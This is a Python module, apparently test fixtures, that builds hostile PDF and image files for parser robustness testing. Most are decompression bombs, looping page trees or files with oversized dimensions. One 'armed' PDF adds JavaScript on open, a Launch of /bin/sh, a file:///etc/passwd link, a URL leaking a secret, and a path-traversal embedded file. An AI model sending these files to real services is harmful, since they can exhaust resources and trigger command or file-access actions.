"""PDF files and pictures that mean harm, made byte by byte."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"


def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1, the first one its catalogue."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
    return out.getvalue()


def pdf_of_pages(count: int) -> bytes:
    """A PDF of `count` pages, each with one line of text."""
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    text = b"BT /F1 12 Tf 72 400 Td (A page of very many pages) Tj ET"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 800]/Contents 4 0 R/Resources<</Font<</F1 3 0 R>>>>>>"
    pages = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)
    return pdf_of([_CATALOGUE, pages, _FONT, _stream(text), *[page] * count])


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(data), data)


def _page(resources: bytes, box: bytes = b"[0 0 300 300]", more: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<<%s>>%s>>" % (box, resources, more)


def looping_pdf() -> bytes:
    """Pages that are their own children."""
    return pdf_of_pages(2).replace(b"/Kids[5 0 R 6 0 R]", b"/Kids[2 0 R 2 0 R]")


def armed_pdf() -> bytes:
    """A page that would run a script and a program, open a file and ask the network, with a file inside."""
    text = _stream(b"BT /F1 12 Tf 20 100 Td (Words on a page that would do more) Tj ET")
    opening = b"/OpenAction<</S/JavaScript/JS(app.launchURL('http://example.org/'))>>"
    inside = b"/Names<</EmbeddedFiles<</Names[(../../evil.sh)6 0 R]>>>>"
    links = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<<%s>>>>" % action
        for action in (
            b"/S/URI/URI(file:///etc/passwd)",
            b"/S/URI/URI(http://example.org/?q=secret)",
            b"/S/Launch/F(/bin/sh)",
            b"/S/GoToR/F(\\\\\\\\server\\\\share)",
            b"/S/SubmitForm/F(http://example.org/)",
        )
    )
    page = _page(b"/Font<</F1 5 0 R>>", more=b"/Annots[%s]/AA<</O<</S/JavaScript/JS(1)>>>>" % links)
    catalogue = b"<</Type/Catalog/Pages 2 0 R%s%s>>" % (opening, inside)
    file = b"<</Type/Filespec/F(../../evil.sh)/EF<</F 4 0 R>>>>"
    return pdf_of([catalogue, _PAGES, page, text, _FONT, file])


def pdf_of_a_huge_picture() -> bytes:
    """A page whose picture says that it is 100,000 pixels wide and high, and unpacks to 20 MB of them."""
    body = _stream(
        zlib.compress(bytes(20_000_000), 9),
        b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray"
        b"/Filter/FlateDecode",
    )
    return pdf_of([_CATALOGUE, _PAGES, _page(b"/XObject<</I 5 0 R>>"), _stream(b"q 300 0 0 300 0 0 cm /I Do Q"), body])


def pdf_of_a_huge_page() -> bytes:
    """A page of some 35 kilometres."""
    text = _stream(b"BT /F1 12 Tf (words words) Tj ET")
    return pdf_of([_CATALOGUE, _PAGES, _page(b"/Font<</F1 5 0 R>>", b"[0 0 99999999 99999999]"), text, _FONT])


def pdf_of_forms(depth: int) -> bytes:
    """Forms that each draw another ten times: ten to the power of `depth` words."""
    objects = [_CATALOGUE, _PAGES, _page(b"/XObject<</X 6 0 R>>"), _stream(b"/X Do"), _FONT]
    for level in range(depth + 1):
        last = level == depth
        inner = b"/Font<</F1 5 0 R>>" if last else b"/XObject<</X %d 0 R>>" % (7 + level)
        body = b"BT /F1 12 Tf (w) Tj ET" if last else b"/X Do " * 10
        objects.append(_stream(body, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<%s>>" % inner))
    return pdf_of(objects)


def pdf_of_operators(count: int) -> bytes:
    """A page that unpacks to `count` times a word in the same place."""
    packed = zlib.compress(b"BT /F1 12 Tf (words) Tj ET\n" * count, 9)
    return pdf_of([_CATALOGUE, _PAGES, _page(b"/Font<</F1 5 0 R>>"), _stream(packed, b"/Filter/FlateDecode"), _FONT])


def png(width: int, height: int, rows: int) -> bytes:
    """A black and white picture that says it has `height` rows and holds `rows`."""

    def part(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packing = zlib.compressobj(9)
    row = bytes(width // 8 + 2)
    pixels = b"".join(packing.compress(row) for _ in range(rows)) + packing.flush()
    header = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + part(b"IDAT", pixels) + part(b"IEND", b"")


def tiff(width: int, height: int, *, data: bytes = bytes(64), packed: int = 1, next_at: int = 0) -> bytes:
    """A grey picture in one strip; `next_at`: where the next one is said to be."""
    fields = ((256, width), (257, height), (258, 8), (259, packed), (262, 1), (273, 8), (277, 1), (278, height))
    table = struct.pack("<H", len(fields) + 1)
    table += b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in (*fields, (279, len(data))))
    return b"II*\x00" + struct.pack("<I", 8 + len(data)) + data + table + struct.pack("<I", next_at)


def _bmp(width: int, height: int) -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 64, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 118, 0, 0, 54) + header + bytes(64)


PAGES: dict[str, Callable[[], bytes]] = {
    "loop.pdf": looping_pdf,
    "armed.pdf": armed_pdf,
    "pageless.pdf": lambda: pdf_of([_CATALOGUE, b"<</Type/Pages/Count 0/Kids[]>>"]),
    "huge-picture.pdf": pdf_of_a_huge_picture,
    "huge-page.pdf": pdf_of_a_huge_page,
    "forms.pdf": lambda: pdf_of_forms(4),
    "operators.pdf": lambda: pdf_of_operators(4_000),
    "deep.pdf": lambda: pdf_of(
        [_CATALOGUE, _PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox" + b"[" * 100_000 + b"]" * 100_000 + b">>"]
    ),
    "huge.png": lambda: png(100_000, 100_000, 20),
    "lying.png": lambda: png(2**31 - 1, 2**31 - 1, 0),
    "thin.png": lambda: png(1, 1_000_000, 1_000_000),
    "wide.png": lambda: png(1_000_000, 1, 1),
    "huge.tif": lambda: tiff(100_000, 100_000),
    "packed.tif": lambda: tiff(100_000, 100_000, data=b"\x81\x00" * 10_000, packed=32773),
    "circle.tif": lambda: tiff(8, 8, next_at=72),
    "huge.bmp": lambda: _bmp(100_000, 100_000),
    "upside-down.bmp": lambda: _bmp(-8, -(2**31)),
    "huge.webp": lambda: b"RIFF" + struct.pack("<I", 22) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff" * 6,
    "gif.png": lambda: b"GIF89a" + struct.pack("<HH", 65535, 65535) + bytes(9) + b"\x2c" + bytes(4) + b"\xff" * 4,
}
# Hold a parser until its limit: for long runs.
SLOW_PAGES: dict[str, Callable[[], bytes]] = {
    "endless-forms.pdf": lambda: pdf_of_forms(8),
    "endless-operators.pdf": lambda: pdf_of_operators(8_000_000),
}
